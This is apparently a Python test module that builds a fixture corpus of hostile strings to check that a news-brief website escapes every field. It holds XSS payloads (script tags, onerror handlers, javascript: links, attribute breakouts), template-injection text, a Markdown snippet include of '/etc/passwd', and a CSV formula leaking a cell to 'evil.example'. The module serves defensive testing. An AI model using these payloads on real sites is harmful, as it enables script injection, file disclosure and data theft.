"""The hostile strings of the payload corpus, and the corpus they are written into.

Every payload goes into EVERY text field of a brief (title, summary, source
publisher/author/title, actor name/role/description/aliases, claim statement,
claim and evidence quotes, evidence title, review note, implication statement
and quote, the name of the actor who relayed the claim, the outcome's note) and into its seed, each time tagged with the field's name so that a
test can say "this exact text must be visible here".

The committed fixture ``fixtures/site/payloads/`` is what ``write_corpus``
writes; ``test_content.py`` checks that the two agree. To add a payload, add a
row below and run (from ``tests/``)::

    ../.venv/bin/python -m adversarial.payloads
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "site" / "payloads"


@dataclass(frozen=True)
class Payload:
    slug: str  # brief id; its actor, claim and implication ids are derived from it
    text: str
    tag_first: bool = False  # "(field) payload" instead of "payload (field)": the payload must END the value

    def value(self, field: str) -> str:
        """What the field holds: the payload, tagged with the field's name."""
        text = f"({field}) {self.text}" if self.tag_first else f"{self.text} ({field})"
        if field == "summary":  # a summary is one paragraph (a blank line in it is an error)
            text = text.replace("\n\n", "\n")
        return text


PAYLOADS: tuple[Payload, ...] = (
    Payload("script", "<script>alert(1)</script>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("iframe-javascript", "<iframe src=javascript:alert(1)>"),
    Payload("style", "<style>body{display:none}</style>"),
    Payload("end-script", "</script> ends no script"),
    Payload("double-quote-breakout", '" onclick="alert(1)'),
    Payload("single-quote-breakout", "' onmouseover='alert(1)"),
    Payload("html-block-div", '<div markdown="1">**bold** <script>alert(1)</script></div>'),
    Payload("blank-line-script", "intro\n\n<script>alert(1)</script>"),
    Payload("unclosed-comment", "<!-- swallow the rest"),
    Payload("markdown-javascript-link", "[click](javascript:alert(1))"),
    Payload("markdown-remote-image", "![x](https://evil.example/x.png)"),
    Payload("markdown-autolinks", "<https://evil.example/x> <javascript:alert(1)>"),
    Payload("attr-list", '{: onclick="alert(1)" }', tag_first=True),
    Payload("jinja-expression", "{{ 7*7 }}"),
    Payload("jinja-raw", "{% raw %}{# comment #}"),
    Payload("snippet", '--8<-- "/etc/passwd"'),
    Payload("line-separators", "one\u2028two\u2029three"),
    # Text a spreadsheet would run as a formula when the CSV tables are opened (OWASP CSV injection).
    Payload("spreadsheet-formula", '=HYPERLINK("https://evil.example/?leak="&A1,"click") +1 -1 @SUM(A1)'),
    Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;"),
    # A character outside the Basic Multilingual Plane (an emoji) next to
    # Markdown link, image and attr_list syntax.
    Payload("astral-markdown",
            "\U0001F600 [click](javascript:alert(1)) ![x](https://evil.example/x.png) "
            "[y](https://example.org/){: onclick=alert(1) }"),
)

# The fields a payload goes into, and where a reader must see it (checked in test_content.py).
FIELDS = (
    "title", "summary", "source title", "source author", "source publisher",
    "actor name", "actor role", "actor alias", "actor description",
    "claim statement", "claim quote", "evidence quote", "evidence title", "review note",
    "implication statement", "implication quote", "seed paragraph", "relay name", "outcome note",
)

# URLs that are valid http(s) but try to break out of the attribute they land in.
BREAKOUT_URLS = {
    "source": 'https://example.org/"onmouseover="alert(1)',
    "evidence": "https://example.org/'onmouseover='alert(1)",
    "review": 'https://example.org/?q="><script>alert(1)</script>',
}


def ids(p: Payload) -> dict[str, str]:
    return {"brief": p.slug, "publisher_brief": f"{p.slug}-publisher", "actor": f"{p.slug}-actor",
            "claim": f"{p.slug}-claim", "implication": f"{p.slug}-implication", "seed": f"{p.slug}.txt"}


def yaml_string(text: str) -> str:
    """A YAML double-quoted scalar for ``text`` (escapes, so line separators stay characters)."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch == "\n":
            out.append("\\n")
        elif ord(ch) < 0x20 or ch in "\x7f\x85\u2028\u2029":
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def seed_text(p: Payload, day: int) -> str:
    v = lambda field: p.value(field).replace("\n\n", " ")  # noqa: E731 - a quote lies within one paragraph
    return (
        f"date 2024-06-{day:02d} Paragraph one: the council heard {v('claim quote')} before the vote.\n\n"
        f"Paragraph two: {v('actor name')} spoke to reporters at the quay.\n\n"
        f"Paragraph three: officials also cited {v('evidence quote')} in the minutes.\n\n"
        f"Paragraph four: the report warned of {v('implication quote')} next year.\n\n"
        f"{p.value('seed paragraph')}\n"
    )


def brief_yaml(p: Payload) -> str:
    q = lambda field: yaml_string(p.value(field))  # noqa: E731
    i = ids(p)
    return f"""seed: {i['seed']}
title: {q('title')}
summary: {q('summary')}
source:
  title: {q('source title')}
  author: {q('source author')}
  url: https://example.org/{p.slug}
tags: [payloads]
actors:
  - id: {i['actor']}
    name: {q('actor name')}
    kind: person
    role: {q('actor role')}
    aliases: [{q('actor alias')}]
    description: {q('actor description')}
  - id: {i['actor']}-relay
    name: {q('relay name')}
    kind: organization
claims:
  - id: {i['claim']}
    by: [{i['actor']}]
    via: {i['actor']}-relay
    medium: statement
    about: [{i['actor']}]
    statement: {q('claim statement')}
    quote: {q('claim quote')}
    evidence:
      - quote: {q('evidence quote')}
      - url: https://example.org/{p.slug}/evidence
        title: {q('evidence title')}
    review:
      rating: disputed
      note: {q('review note')}
      sources: [https://example.org/{p.slug}/review]
implications:
  - id: {i['implication']}
    statement: {q('implication statement')}
    because: [{i['claim']}]
    affects: [{i['actor']}]
    likelihood: likely
    confidence: moderate
    horizon: near-term
    quote: {q('implication quote')}
    outcome:
      status: occurred
      date: 2024-12-01
      note: {q('outcome note')}
      evidence: [https://example.org/{p.slug}/outcome]
"""


def publisher_brief_yaml(p: Payload) -> str:
    # The brief page shows source.title only when there is no publisher, so the
    # publisher gets a brief of its own.
    return f"""seed: {ids(p)['seed']}
title: {yaml_string(p.value('publisher brief title'))}
summary: The same article, credited to its publisher.
source:
  publisher: {yaml_string(p.value('source publisher'))}
  url: https://example.org/{p.slug}/publisher
"""


BREAKOUT_BRIEF = f"""seed: harbour.txt
title: Links whose URLs try to leave their attribute
summary: Every URL below is a valid https URL with quotes and angle brackets in it.
source:
  url: {yaml_string(BREAKOUT_URLS['source'])}
claims:
  - id: breakout-claim
    by: [tomas-berg]
    statement: The councillor says the numbers do not add up.
    quote: "do not add up"
    evidence:
      - url: {yaml_string(BREAKOUT_URLS['evidence'])}
    review:
      rating: unverified
      sources:
        - {yaml_string(BREAKOUT_URLS['review'])}
"""

# YAML 1.1 would read these as booleans, numbers and times; they must stay the text written.
PLAIN_VALUES_BRIEF = """seed: harbour.txt
title: no
summary: off
actors:
  - id: plain-actor
    name: yes
    kind: person
    role: 10:00
    description: 0555567
    aliases: [NO, On, y, 1e3, 0x1F, .inf]
claims:
  - id: plain-claim
    by: plain-actor
    statement: Off
    quote: Critics said the delays were foreseeable
    review:
      rating: supported
      note: 12:30:45
"""
PLAIN_VALUES = {"title": "no", "summary": "off", "actor name": "yes", "actor role": "10:00",
                "actor description": "0555567", "actor aliases": ["NO", "On", "y", "1e3", "0x1F", ".inf"],
                "claim statement": "Off", "review note": "12:30:45"}

# Two claims whose quotes overlap ("cost less than planned" is in both).
OVERLAP_BRIEF = """seed: harbour.txt
title: Port Vell ferry terminal delayed again
summary: Officials promise the terminal will open before the summer; critics want an audit.
actors:
  - id: ana-ruiz
    name: Ana Ruiz
    kind: person
    role: Mayor of Port Vell
  - id: tomas-berg
    name: Tomás Berg
    kind: person
    role: Opposition councillor
claims:
  - id: terminal-cheaper-than-planned
    by: [ana-ruiz]
    statement: The mayor says the terminal will cost less than planned.
    quote: "the terminal would cost less than planned"
  - id: no-further-delays
    by: ana-ruiz
    statement: The mayor says there will be no more delays.
    quote: "cost less than planned and that no further delays were expected"
"""

HARBOUR = (Path(__file__).resolve().parent / "fixtures" / "seeds" / "harbour.txt").read_text(encoding="utf-8")


def corpus_files() -> dict[str, str]:
    files = {"seeds/harbour.txt": HARBOUR,
             "briefs/url-breakout.yml": BREAKOUT_BRIEF,
             "briefs/plain-values.yml": PLAIN_VALUES_BRIEF,
             "briefs/overlapping-quotes.yml": OVERLAP_BRIEF}
    for day, p in enumerate(PAYLOADS, start=1):
        i = ids(p)
        files[f"seeds/{i['seed']}"] = seed_text(p, day)
        files[f"briefs/{i['brief']}.yml"] = brief_yaml(p)
        files[f"briefs/{i['publisher_brief']}.yml"] = publisher_brief_yaml(p)
    return files


def write_corpus(dest: Path) -> Path:
    for rel, text in corpus_files().items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    return dest


if __name__ == "__main__":  # regenerate the committed fixture
    import shutil

    shutil.rmtree(FIXTURE, ignore_errors=True)
    write_corpus(FIXTURE)
    print(f"wrote {FIXTURE}")
